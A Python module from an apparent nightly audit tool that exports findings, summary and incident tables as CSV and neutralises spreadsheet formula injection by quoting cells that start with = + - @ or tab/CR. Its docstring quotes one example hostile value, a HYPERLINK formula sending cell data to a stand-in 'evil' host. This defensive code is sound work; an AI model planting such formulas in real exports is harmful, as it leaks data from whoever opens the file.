"""CSV exports: ``findings.csv``, ``summary.csv`` and ``incidents.csv``.

Written with pandas' CSV writer (RFC 4180: CRLF line ends, so that a CR or LF inside a cell is
quoted too; UTF-8), never a template.
Timestamps are ISO 8601 UTC (``2026-11-23T01:00:00Z``); nulls are empty cells.

Formula injection
-----------------
A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell as a formula when it starts with
``=``, ``+``, ``-`` or ``@``, and some also after a leading tab or carriage return. Company names
and messages come from outside, so a company named ``=HYPERLINK("http://evil/?"&A1)`` could
leak data or run commands on the machine of whoever opens the CSV. Every **text** cell that
starts with one of these characters is prefixed with a single quote (``'``), which spreadsheets
show as text (OWASP's recommendation). Numeric columns (``age_hours``, counts, ...) are left
alone, so a negative number stays a number. The cost: a program reading the CSV sees the extra
``'`` on those few text cells; strip a leading ``'`` when the next character is one of
``= + - @ \\t \\r`` to get the original value back.
"""

from __future__ import annotations

import io
from pathlib import Path
from typing import Final

import pandas as pd

from auditor.findings import FINDINGS_COLUMNS, FINDINGS_SCHEMA
from auditor.result import AuditResult

__all__ = [
    "FORMULA_PREFIXES",
    "INCIDENT_COLUMNS",
    "SUMMARY_COLUMNS",
    "findings_frame",
    "incidents_frame",
    "neutralise_formulas",
    "summary_frame",
    "to_csv_bytes",
    "write_csv",
]

#: Leading characters that make a spreadsheet treat a cell as a formula.
FORMULA_PREFIXES: Final[str] = "=+-@\t\r"

#: Columns of ``summary.csv``: one row per rule × severity × platform (snoozed rows left out).
SUMMARY_COLUMNS: Final[tuple[str, ...]] = (
    "rule",
    "code",
    "severity",
    "platform",
    "findings",
    "companies",
    "new",
    "regressed",
    "ongoing",
)

#: Columns of ``incidents.csv``: one row per incident key, tonight's and resolved ones.
INCIDENT_COLUMNS: Final[tuple[str, ...]] = (
    "incident_key",
    "state",
    "rule",
    "code",
    "severity",
    "company_id",
    "company_name",
    "platform",
    "connection_id",
    "data_type",
    "group",
    "first_seen",
    "nights_open",
    "snoozed",
    "snooze_reason",
    "as_of",
)

_TIMESTAMP_FORMAT: Final[str] = "%Y-%m-%dT%H:%M:%SZ"
_FORMULA_PATTERN: Final[str] = "^[=+\\-@\t\r]"


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells cannot run as spreadsheet formulas (see module doc).

    Only text-like columns (string, object, category) are touched; numbers, booleans and
    timestamps keep their type.
    """
    out = frame.copy()
    for name in out.columns:
        col = out[name]
        if not (
            pd.api.types.is_string_dtype(col.dtype)
            or pd.api.types.is_object_dtype(col.dtype)
            or isinstance(col.dtype, pd.CategoricalDtype)
        ):
            continue
        text = col.astype("string")
        hostile = text.str.contains(_FORMULA_PATTERN, regex=True).fillna(False).astype(bool)
        if hostile.any():
            out[name] = text.mask(hostile, "'" + text)
        elif isinstance(col.dtype, pd.CategoricalDtype):
            out[name] = text
    return out


def _format_timestamps(frame: pd.DataFrame) -> pd.DataFrame:
    out = frame.copy()
    for name in out.columns:
        if isinstance(out[name].dtype, pd.DatetimeTZDtype) or pd.api.types.is_datetime64_dtype(
            out[name].dtype
        ):
            ts = pd.to_datetime(out[name], utc=True)
            out[name] = ts.dt.strftime(_TIMESTAMP_FORMAT).astype("string")
    return out


def findings_frame(result: AuditResult) -> pd.DataFrame:
    """All of tonight's findings (snoozed ones too, flagged) in the fixed column order."""
    return result.findings.reindex(columns=list(FINDINGS_COLUMNS))


def summary_frame(result: AuditResult) -> pd.DataFrame:
    """Counts by rule × severity × platform, snoozed findings left out."""
    active = result.active
    if active.empty:
        return pd.DataFrame({c: pd.Series([], dtype="object") for c in SUMMARY_COLUMNS})
    keys = pd.DataFrame(
        {
            "rule": active["rule"].astype("string").fillna(""),
            "code": active["code"].astype("string").fillna(""),
            "severity": active["severity"].astype("string").fillna(""),
            "platform": active["platform"].astype("string").fillna(""),
            "company_id": active["company_id"].astype("string"),
            "state": active["state"].astype("string").fillna(""),
        }
    )
    for state in ("new", "regressed", "ongoing"):
        keys[state] = (keys["state"] == state).astype("int64")
    grouped = keys.groupby(["rule", "code", "severity", "platform"], sort=True).agg(
        findings=("company_id", "size"),
        companies=("company_id", "nunique"),
        new=("new", "sum"),
        regressed=("regressed", "sum"),
        ongoing=("ongoing", "sum"),
    )
    out = grouped.reset_index()
    sev_order = out["severity"].map({"error": 0, "warning": 1}).fillna(2)
    out = out.assign(_sev=sev_order).sort_values(["rule", "_sev", "platform"], kind="stable")
    return out[list(SUMMARY_COLUMNS)].reset_index(drop=True)


def incidents_frame(result: AuditResult) -> pd.DataFrame:
    """One row per incident key: tonight's (new/ongoing/regressed, snoozed flagged) and resolved."""
    frames = [
        f.reindex(columns=list(INCIDENT_COLUMNS))
        for f in (result.findings, result.resolved)
        if f is not None and not f.empty
    ]
    if not frames:
        return pd.DataFrame({c: pd.Series([], dtype=_dtype_of(c)) for c in INCIDENT_COLUMNS})
    both = pd.concat(
        [
            f.astype({c: "string" for c in f.columns if FINDINGS_SCHEMA.get(c) == "category"})
            for f in frames
        ],
        ignore_index=True,
    )
    # Tonight's row wins over a resolved row for the same key (it cannot be both).
    both = both.drop_duplicates(subset=["incident_key"], keep="first")
    state_rank = both["state"].map({"new": 0, "regressed": 1, "ongoing": 2, "resolved": 3})
    both = both.assign(_s=state_rank.fillna(4)).sort_values(["_s", "incident_key"], kind="stable")
    return both[list(INCIDENT_COLUMNS)].reset_index(drop=True)


def _dtype_of(column: str) -> str:
    kind = FINDINGS_SCHEMA.get(column, "str")
    return {"int": "Int64", "float": "float64", "bool": "boolean", "timestamp": "object"}.get(
        kind, "string"
    )


def to_csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as safe CSV bytes (UTF-8, formulas neutralised, ISO timestamps)."""
    buffer = io.StringIO()
    neutralise_formulas(_format_timestamps(frame)).to_csv(
        buffer, index=False, lineterminator="\r\n"
    )
    return buffer.getvalue().encode("utf-8")


def write_csv(frame: pd.DataFrame, path: Path) -> Path:
    """Write ``frame`` as safe CSV to ``path`` atomically (temp file, then rename)."""
    tmp = path.with_name(path.name + ".tmp")
    tmp.write_bytes(to_csv_bytes(frame))
    tmp.replace(path)
    return path
